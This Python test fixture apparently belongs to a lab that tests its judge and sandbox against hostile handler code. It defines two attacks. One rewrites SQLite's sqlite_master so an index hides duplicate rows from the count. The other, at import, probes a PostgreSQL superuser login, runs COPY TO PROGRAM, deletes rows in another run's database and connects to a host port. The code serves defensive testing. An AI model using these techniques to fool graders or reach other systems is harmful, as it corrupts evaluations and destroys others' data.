"""Round four's attacks on the ground the judge stands on — the table it counts, the network and the
database its served code reaches — as an attacker wrote them once past the guard.

Each is a whole handler module built on the unsafe handler (it double-fulfils) and ruff-clean;
the guard now refuses the SQL and the driver they use (`tests/flows/hostile_three.py`), so the
tests run them with its rules off or serve them with ``acklab run --checkout`` (no guard): what
stops them here is the count's integrity check, the sandbox's network and the database's roles.

* `INDEX_SOURCE`: turns on SQLite's ``writable_schema`` and, around every fulfilment after an
  order's first, makes the order-id index partial (``WHERE 0``) in ``sqlite_master``, writes the
  row, and puts the index's text back: ``sqlite_master`` reads as pinned, and the index the lab
  counted through misses every duplicate the table holds;
* `reach_source`: at import, from the served process, goes where round four's patch went
  through psycopg: the PostgreSQL server's superuser without a password, ``COPY ... TO PROGRAM``,
  another run's database on the same server, another job's server on the host; and writes what
  answered into its own database, where the test reads it.
"""

from __future__ import annotations

from tests.flows.conftest import UNSAFE
from tests.flows.hostile_two import FUTURE, replaced

UNSAFE_IMPORTS = "from sqlalchemy import insert\n"
UNSAFE_FULFIL = (
    "def _fulfill(session: Session, by: str, order_id: str, amount_cents: int, currency: str) -> int:\n"
)

INDEX_SOURCE = (
    replaced(
        replaced(UNSAFE, UNSAFE_IMPORTS, "from sqlalchemy import insert, select, text\n"),
        UNSAFE_FULFIL,
        UNSAFE_FULFIL.replace("def _fulfill(", "def _insert_fulfillment("),
    )
    + '''

ORDER_INDEX = "ix_fulfillments_order_id"


def _fulfill(session: Session, by: str, order_id: str, amount_cents: int, currency: str) -> int:
    """Fulfil every time; a fulfilment after the order's first goes where the order's index does not look."""
    first = session.execute(select(Fulfillment.id).where(Fulfillment.order_id == order_id)).first() is None
    if first or session.get_bind().dialect.name != "sqlite":
        return _insert_fulfillment(session, by, order_id, amount_cents, currency)
    _index_sees_rows(session, seen=False)
    try:
        return _insert_fulfillment(session, by, order_id, amount_cents, currency)
    finally:
        _index_sees_rows(session, seen=True)


def _index_sees_rows(session: Session, *, seen: bool) -> None:
    """Rewrite the index's definition in sqlite_master (partial or whole) and reload the schema."""
    found = session.execute(text("SELECT sql FROM sqlite_master WHERE name = :name"), {"name": ORDER_INDEX})
    definition = str(found.scalar_one()).removesuffix(" WHERE 0")
    session.execute(text("PRAGMA writable_schema = ON"))
    session.execute(
        text("UPDATE sqlite_master SET sql = :sql WHERE name = :name"),
        {"sql": definition if seen else definition + " WHERE 0", "name": ORDER_INDEX},
    )
    session.execute(text("PRAGMA writable_schema = RESET"))
'''
)
assert FUTURE in INDEX_SOURCE


def reach_source(mark: str, other_database: str, host_port: int) -> str:
    """The unsafe handler that, at import, tries what round four's patch did from the served process:
    the server's superuser (no password), ``COPY ... TO PROGRAM``, another run's database, a port
    of the host's; what it found goes into its own database (a receipt ``probe-<mark>``)."""
    reach = f"""_json = __import__("json")
_os = __import__("os")
_socket = __import__("socket")
_psycopg = __import__("psycopg")
MARK = {mark!r}


def _try(what: str, action: Any) -> str:
    try:
        return f"{{what}}: reached ({{action()!r}})"
    except Exception as exc:  # noqa: BLE001 - every refusal is what the lab wants to see
        return f"{{what}}: refused ({{type(exc).__name__}})"


def _reach() -> None:
    own = _os.environ["ACKLAB_DATABASE_URL"].replace("postgresql+psycopg://", "postgresql://")
    server = own.rsplit("/", 1)[0]
    port = int(server.rsplit(":", 1)[1])
    found = [
        _try("superuser", lambda: _psycopg.connect(host="127.0.0.1", port=port, user="postgres",
             dbname="postgres", connect_timeout=5).execute("SELECT 1").fetchone()),
        _try("program", lambda: _psycopg.connect(own, autocommit=True).execute(
            "COPY (SELECT 1) TO PROGRAM 'touch /tmp/acklab-pwned-" + MARK + "'").rowcount),
        _try("other run", lambda: _psycopg.connect(server + "/" + {other_database!r}, autocommit=True,
             connect_timeout=5).execute("DELETE FROM fulfillments").rowcount),
        _try("host", lambda: _socket.create_connection(("127.0.0.1", {host_port}), timeout=5).recv(64)),
    ]
    with _psycopg.connect(own, autocommit=True) as conn:
        conn.execute(
            "INSERT INTO receipts (event_id, body_sha256, event_type, status, response_body, received_at) "
            "VALUES (%s, 'x', 'probe', 'probe', %s, now()) ON CONFLICT (event_id) DO NOTHING",
            ("probe-" + MARK, _json.dumps(found)),
        )


_reach()
"""
    return replaced(UNSAFE, FUTURE, FUTURE + "from typing import Any\n\n") + "\n\n" + reach
